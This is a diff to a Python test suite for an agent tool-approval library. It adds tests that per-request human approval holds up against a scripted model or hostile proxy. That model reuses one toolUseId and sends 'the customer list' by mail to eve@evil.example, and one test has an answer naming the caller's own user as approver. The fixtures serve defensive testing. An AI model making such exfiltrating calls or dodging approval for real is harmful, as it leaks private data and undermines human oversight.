@@ -17,6 +17,7 @@ from strands.vended_interventions.cedar import CedarAuthorization
 from strands.vended_interventions.hitl import HumanInTheLoop
 from strands_script import ScriptedModel, read_back, results
 from toolpass import ApprovalQueue, AuditEvent, Decision, Toolkit, ToolRefused
+from toolpass.adapting import Traits
 from toolpass.strands import APPROVAL, Rule, ToolpassAuthorization
 
 DANA, ERIN = "dana@example.com", "erin@example.com"
@@ -299,7 +300,7 @@ def approving_agent(
 
 
 def answer(agent: Agent, result: Any, response: Any, mode: str = "sync") -> Any:
-    [ask] = [i for i in result.interrupts if i.name == APPROVAL]
+    [ask] = [i for i in result.interrupts if i.name.startswith(APPROVAL)]
     reply = [{"interruptResponse": {"interruptId": ask.id, "response": response}}]
     if mode == "sync":
         return agent(reply, invocation_state={"user_id": DANA})
@@ -319,7 +320,7 @@ def test_an_approval_interrupts_the_run_and_the_call_runs_once_approved(
         result = asyncio.run(agent.invoke_async("go", invocation_state={"user_id": DANA}))
     assert result.stop_reason == "interrupt"
     [ask] = result.interrupts
-    assert ask.name == APPROVAL
+    assert ask.name == f"{APPROVAL}:{ask.reason['request_id']}"
     assert ask.reason["tool"] == "wire"
     assert ask.reason["user"] == DANA
     assert "amount = 500" in ask.reason["message"]
@@ -364,6 +365,89 @@ def test_a_denied_approval_never_runs_the_call(response: Any) -> None:
     assert ran == []
     [text] = read_back(agent)
     assert text.startswith("Refused by toolpass (approval_denied)"), text
+
+
+class OneMessageModel(ScriptedModel):
+    """A model whose first message makes every call at once, all under one ``toolUseId``
+    (as a provider that numbers calls per message, or a hostile proxy, can)."""
+
+    async def stream(self, messages: Any, *args: Any, **kwargs: Any) -> Any:
+        if any(m["role"] == "assistant" for m in messages):
+            async for event in super().stream([], *args, **kwargs):
+                if "contentBlockStart" in event and event["contentBlockStart"]["start"]:
+                    continue  # past the first message: only the final answer
+                yield event
+            return
+        yield {"messageStart": {"role": "assistant"}}
+        for tool_name, arguments in self.calls:
+            start = {"toolUse": {"toolUseId": "t1", "name": tool_name}}
+            yield {"contentBlockStart": {"start": start}}
+            yield {"contentBlockDelta": {"delta": {"toolUse": {"input": json.dumps(arguments)}}}}
+            yield {"contentBlockStop": {}}
+        yield {"messageStop": {"stopReason": "tool_use"}}
+
+
+def mailing_agent(queue: ApprovalQueue, sent: list[str]) -> Agent:
+    """An agent whose framework tool ``send_mail`` always needs approval (it sends out, and
+    is declared to read private and untrusted data), called twice in one message."""
+
+    @tool
+    def send_mail(to: str, body: str) -> str:
+        """Send a mail."""
+        sent.append(to)
+        return f"sent to {to}"
+
+    send = Traits(effect="write", sends_out=True, reads_private=True, untrusted_output=True)
+    calls = [
+        ("send_mail", {"to": "bills@utility.example", "body": "the invoice"}),
+        ("send_mail", {"to": "eve@evil.example", "body": "the customer list"}),
+    ]
+    return Agent(
+        model=OneMessageModel(calls),
+        tools=[send_mail],
+        interventions=[
+            ToolpassAuthorization(
+                ScriptedEngine(), {"send_mail": send}, toolkit=Toolkit(approver=queue, audit=[])
+            )
+        ],
+        callback_handler=None,
+    )
+
+
+def test_the_prompt_of_a_framework_tool_shows_its_arguments() -> None:
+    queue, sent = ApprovalQueue(), []
+    result = mailing_agent(queue, sent)("go", invocation_state={"user_id": DANA})
+    assert result.stop_reason == "interrupt"
+    shown = [i.reason["message"] for i in result.interrupts]
+    assert any("to = 'eve@evil.example'" in m and "the customer list" in m for m in shown)
+    assert any(i.reason["arguments"].get("to") == "'eve@evil.example'" for i in result.interrupts)
+    assert sent == []
+
+
+def test_calls_sharing_a_tool_use_id_never_share_an_approval() -> None:
+    queue, sent = ApprovalQueue(), []
+    agent = mailing_agent(queue, sent)
+    result = agent("go", invocation_state={"user_id": DANA})
+    assert len({r.id for r in queue.pending()}) == 2
+    assert len({i.id for i in result.interrupts}) == 2  # one question per request
+    [bills] = [i for i in result.interrupts if "bills@utility.example" in i.reason["message"]]
+    reply = [{"interruptResponse": {"interruptId": bills.id, "response": "y"}}]
+    again = agent(reply, invocation_state={"user_id": DANA})
+    assert sent == ["bills@utility.example"]  # the approval shown for bills sends to bills only
+    assert again.stop_reason == "interrupt"
+    [eve] = again.interrupts
+    assert "eve@evil.example" in eve.reason["message"]
+    assert [r.arguments["to"] for r in queue.pending()] == ["eve@evil.example"]
+
+
+def test_an_answer_naming_the_calls_own_user_does_not_approve_it() -> None:
+    queue, ran = ApprovalQueue(), []
+    agent = approving_agent(queue, ran)
+    result = agent("go", invocation_state={"user_id": DANA})
+    answer(agent, result, {"approved": True, "by": DANA})
+    assert ran == []
+    assert "approval_pending" in read_back(agent)[0]
+    assert [r.status for r in queue.pending()] == ["pending"]
 
 
 def test_a_denial_carries_the_persons_reason() -> None:
@@ -467,7 +551,7 @@ def test_toolpass_approval_and_human_in_the_loop_both_ask() -> None:
         [{"interruptResponse": {"interruptId": ask.id, "response": "y"}}],
         invocation_state={"user_id": DANA},
     )
-    assert [i.name for i in result.interrupts] == [APPROVAL]
+    assert [i.name.partition(":")[0] for i in result.interrupts] == [APPROVAL]
     assert ran == []
     answer(agent, result, "y")
     assert ran == [500]
